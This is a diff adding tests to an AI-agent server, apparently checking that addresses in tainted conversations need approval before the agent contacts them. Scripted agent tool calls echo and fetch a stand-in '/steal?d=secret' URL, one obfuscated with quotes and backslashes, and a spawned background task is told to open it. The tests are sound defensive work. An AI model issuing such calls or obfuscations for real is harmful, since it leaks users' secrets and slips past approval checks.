@@ -79,7 +79,7 @@ describeOnEachServer('new addresses', (start) => {
   beforeAll(async () => {
     server = await start({
       ...outsideConfiguration(upstream),
-      tools: { cache_ttl: 0 },
+      tools: { cache_ttl: 0, exec: { enabled: true } },
       web_search: { provider: 'searxng', url: `${site.origin}/search` },
     })
   })
@@ -272,6 +272,50 @@ describeOnEachServer('new addresses', (start) => {
     await call('POST', `/api/runs/${data.run_id}/stop`)
     await stream.all()
     expect([lookups, hits]).toEqual([[], []])
+  })
+
+  test('what a command prints is known, except what its command line says', async () => {
+    const project = await createProject()
+    await call('PUT', `/api/projects/${project}/files/links.txt`, {
+      content: at('printed', '/listed'),
+    })
+    const conversation = await createConversation(project, 'auto')
+    const leak = at('secret-words', '/steal?d=secret')
+    await perform(
+      conversation,
+      [{ name: 'exec', arguments: { command: 'cat links.txt' } }],
+      [{ name: 'exec', arguments: { command: `echo ${leak}` } }],
+      [{ name: 'exec', arguments: { command: `echo ${leak.replace('steal', "st''ea\\\\l")}` } }],
+      [{ name: 'exec', arguments: { command: `false; echo "${leak}" >&2; exit 1` } }],
+      [fetchCall(`${site.origin}/hostile`)],
+    )
+    await call('PATCH', `/api/conversations/${conversation}`, { approval: 'ask' })
+    lookups.length = 0
+    expect(await isNew(conversation, leak)).toBe(true)
+    expect([lookups, hits]).toEqual([[], []])
+    expect(await isNew(conversation, at('printed', '/listed'))).toBe(false)
+    expect(hits).toEqual(['printed.test/listed'])
+  })
+
+  test('a background task of a tainted conversation asks, too, also for an address in its instruction', async () => {
+    const leak = at('spawned', '/steal?d=secret')
+    const conversation = await tainted()
+    const task = `Open ${leak}`
+    upstream.program(({ messages }) =>
+      JSON.stringify(messages.find(({ role }) => role === 'user')).includes(task)
+        ? turn.toolCalls([fetchCall(leak)])
+        : undefined,
+    )
+    upstream.enqueue(
+      turn.toolCalls([{ name: 'spawn', arguments: { task } }]),
+      turn.text('It works on it.'),
+    )
+    await (await send(conversation)).all()
+    const tasks = async () =>
+      (await call('GET', `/api/conversations/${conversation}/background`)).data.items
+    await expect.poll(async () => (await tasks())[0]?.status).toBe('awaiting_approval')
+    expect([lookups, hits]).toEqual([[], []])
+    await call('POST', `/api/runs/${(await tasks())[0].id}/stop`)
   })
 
   test('nothing is asked under auto, and nothing without text from outside', async () => {
